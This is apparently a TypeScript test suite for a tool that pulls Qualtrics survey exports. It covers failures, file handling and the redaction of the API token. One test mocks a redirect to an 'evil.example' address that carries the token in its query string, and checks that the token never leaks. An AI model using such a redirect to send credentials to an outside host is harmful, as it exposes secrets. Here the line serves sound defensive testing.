import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { HttpResponse, http } from "msw";
import { setupServer } from "msw/node";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { withLock } from "../../../pipelines/lock.ts";
import { testDay } from "../../support/data-folder.ts";
import { listResponses, toSurveyText } from "../../support/survey-files.ts";
import { listModes, makePullFolder, type PullFolder } from "./pull-folder.ts";
import {
  openQualtricsService,
  qualtricsAddress,
  qualtricsConfig,
  qualtricsToken,
} from "./qualtrics-service.ts";

const server = setupServer();
beforeAll(() => server.listen({ onUnhandledRequest: "error" }));
afterAll(() => server.close());

let folder: PullFolder;
beforeEach(async () => {
  folder = await makePullFolder();
  await folder.configure("barriers", qualtricsConfig);
});
afterEach(async () => {
  server.resetHandlers();
  await folder.remove();
});

const answers = toSurveyText(listResponses(12));
const withToken = { environment: { SURVEY_TOKEN: qualtricsToken } };
const target = "surveys/barriers-2026-q2.csv";

function start(...options: Parameters<typeof openQualtricsService>) {
  const service = openQualtricsService(...options);
  server.use(...service.handlers);
  return service;
}

const previous = () => path.join(folder.paths.data, "state/pull/previous");

describe("a Qualtrics survey", () => {
  it("is asked for, waited for, fetched and put down as the platform gave it", async () => {
    const service = start(answers);
    const lines = await folder.pull("survey barriers", withToken);
    expect(service.requests).toEqual(["POST ", "GET /ES_1", "GET /ES_1", "GET /ES_1", "GET /file-1/file"]);
    expect(service.body()).toMatchObject({ format: "csv", useLabels: true });
    expect(folder.text(target)).toBe(answers);
    expect(statSync(folder.at(target)).mode & 0o777).toBe(0o600);
    expect(await folder.exported()).toEqual([target]);
    expect(readdirSync(folder.at("surveys"))).toEqual(["barriers-2026-q2.csv"]);
    expect(folder.said).toContain("60/100 of the export made");
    expect(lines.join("\n")).toContain("It has no mapping yet");
  });

  it("that has changed replaces the file of its quarter, and the bytes before are kept", async () => {
    start(answers);
    await folder.pull("survey barriers", withToken);
    server.resetHandlers();
    const more = toSurveyText(listResponses(20));
    start(more);
    await folder.pull("survey barriers", withToken);
    expect(await folder.exported()).toEqual([target]);
    expect(folder.text(target)).toBe(more);
    const kept = readdirSync(previous());
    expect(kept).toHaveLength(1);
    expect(readFileSync(path.join(previous(), kept[0] ?? ""), "utf8")).toBe(answers);
    expect(listModes(previous())).toEqual([`${kept[0]} 600`]);
  });

  it("that has not changed leaves its file alone", async () => {
    start(answers);
    await folder.pull("survey barriers", withToken);
    const { mtimeMs } = statSync(folder.at(target));
    server.resetHandlers();
    start(answers);
    const [line] = await folder.pull("survey barriers", withToken);
    expect(line).toBe(`Nothing has changed: ${target} has the same answers already.`);
    expect(statSync(folder.at(target)).mtimeMs).toBe(mtimeMs);
  });

  it("goes beside the mapping that is named", async () => {
    const { output: _output, fieldPeriod: _period, ...rest } = qualtricsConfig;
    await folder.configure("barriers", { ...rest, mapping: "spring-2026" });
    await folder.put("surveys/spring-2026.mapping.json", "{}");
    start(answers);
    const lines = await folder.pull("survey barriers", withToken);
    expect(folder.text("surveys/spring-2026.csv")).toBe(answers);
    expect(lines).toHaveLength(1);
  });

  it("whose quarter was corrected does not come to stand there twice", async () => {
    start(answers);
    await folder.pull("survey barriers", withToken);
    await folder.configure("barriers", {
      ...qualtricsConfig,
      fieldPeriod: { from: "2026-05-01", to: "2026-09-30" },
    });
    const failure = await folder.pullFailing("survey barriers", withToken);
    expect(failure).toMatchObject({
      detail: { code: "earlier_output", found: `${target} from an earlier pull` },
    });
    expect(await folder.exported()).toEqual([target]);
  });
});

describe("what was there stays when", () => {
  it.each<[string, string, Parameters<typeof openQualtricsService>]>([
    [
      "the export fails, and its reason is told",
      "export_failed",
      [
        answers,
        { progress: [{ percentComplete: 10, status: "failed", error: { message: "Survey is\nlocked" } }] },
      ],
    ],
    [
      "the export never ends",
      "export_timeout",
      [answers, { progress: [{ percentComplete: 99, status: "inProgress" }] }],
    ],
    [
      "the status is an unknown one",
      "changed_schema",
      [answers, { progress: [{ percentComplete: 1, status: "paused" }] }],
    ],
    [
      "a complete export has no file",
      "export_failed",
      [answers, { progress: [{ percentComplete: 100, status: "complete" }] }],
    ],
    ["the archive holds two files", "damaged_download", [answers, { files: { "a.csv": "1", "b.csv": "2" } }]],
    ["the archive holds no CSV", "damaged_download", [answers, { files: { "a.sav": "1" } }]],
    ["the archive holds an empty file", "empty_source", ["", {}]],
  ])("%s", async (_what, code, service) => {
    await folder.put(target, "as it was");
    start(...service);
    const failure = await folder.pullFailing("survey barriers", withToken);
    expect(failure).toMatchObject({ exitCode: 3, detail: { code } });
    expect(folder.text(target)).toBe("as it was");
    expect(readdirSync(folder.at("surveys"))).toEqual(["barriers-2026-q2.csv"]);
  });

  it("the file is a web page", async () => {
    start(answers);
    server.use(
      http.get(`${qualtricsAddress}/API/v3/surveys/SV_test1/export-responses/file-1/file`, () =>
        HttpResponse.html("<p>Log in</p>"),
      ),
    );
    const failure = await folder.pullFailing("survey barriers", withToken);
    expect(failure).toMatchObject({ detail: { code: "wrong_type" } });
    expect(await folder.exported()).toEqual([]);
  });

  it("the export is larger unpacked than allowed", async () => {
    await folder.configure("barriers", { ...qualtricsConfig, maxMegabytes: 1 });
    start("x".repeat(1024 * 1024 + 1));
    const failure = await folder.pullFailing("survey barriers", withToken);
    expect(failure).toMatchObject({ detail: { code: "too_large" } });
    expect(await folder.exported()).toEqual([]);
  });

  it("the line breaks again and again, and no answers are left behind", async () => {
    start(answers);
    server.use(
      http.get(`${qualtricsAddress}/API/v3/surveys/SV_test1/export-responses/file-1/file`, () => {
        const pieces = new ReadableStream({
          start(stream) {
            stream.enqueue(new TextEncoder().encode("PK answers of people"));
            setTimeout(() => stream.error(new Error("cut")), 50);
          },
        });
        return new HttpResponse(pieces, { headers: { "content-type": "application/zip", etag: '"e1"' } });
      }),
    );
    const failure = await folder.pullFailing("survey barriers", withToken);
    expect(failure).toMatchObject({ detail: { code: "source_unavailable" } });
    expect(await folder.everything()).not.toContain("answers of people");
  });

  it("a load is at work", async () => {
    start(answers);
    await withLock(folder.paths.warehouse, testDay, async () => {
      expect(await folder.pullFailing("survey barriers", withToken)).toMatchObject({ exitCode: 5 });
    });
    expect(await folder.exported()).toEqual([]);
  });
});

it("tells a failed export's reason on one line", async () => {
  start(answers, {
    progress: [{ percentComplete: 1, status: "failed", error: { message: "Survey is\nlocked" } }],
  });
  const failure = await folder.pullFailing("survey barriers", withToken);
  expect(failure.message).toContain("a failed export: Survey is locked.");
});

describe("the token", () => {
  it("is in no file and no line, even when the platform repeats it", async () => {
    start(answers);
    await folder.pull("survey barriers", withToken);
    server.resetHandlers();
    start(answers, {
      progress: [{ percentComplete: 1, status: "failed", error: { message: `bad token ${qualtricsToken}` } }],
    });
    await folder.pullFailing("survey barriers", withToken);
    server.resetHandlers();
    server.use(
      http.post(/export-responses$/, () => {
        const inAddress = encodeURIComponent(qualtricsToken);
        return new HttpResponse(null, {
          status: 302,
          headers: { location: `https://evil.example/?t=${inAddress}` },
        });
      }),
    );
    await folder.pullFailing("survey barriers", withToken);
    const told = folder.said.join("\n") + (await folder.everything());
    expect(told).toContain("bad token ***");
    for (const spelling of [
      qualtricsToken,
      encodeURIComponent(qualtricsToken),
      Buffer.from(qualtricsToken).toString("base64"),
    ]) {
      expect(told).not.toContain(spelling);
    }
  });

  it.each([
    ["is missing", {}, "nothing"],
    ["is empty", { SURVEY_TOKEN: " " }, "nothing"],
    ["could not travel in a header", { SURVEY_TOKEN: "abcd\nefgh" }, "characters that no secret has"],
    ["has other than ASCII characters", { SURVEY_TOKEN: "abcdĀefgh" }, "characters that no token has"],
  ])("stops the pull before any request when it %s", async (_what, environment, found) => {
    const failure = await folder.pullFailing("survey barriers", { environment });
    expect(failure).toMatchObject({
      detail: { code: "missing_secret", place: "environment variable SURVEY_TOKEN", found },
    });
    expect(folder.said.join()).not.toMatch(/abcd|efgh/);
  });

  it("that is refused is named by its variable", async () => {
    start(answers);
    const failure = await folder.pullFailing("survey barriers", {
      environment: { SURVEY_TOKEN: "another-token" },
    });
    expect(failure).toMatchObject({ detail: { code: "access_refused" } });
    expect(failure.message).toContain("Check SURVEY_TOKEN");
  });
});
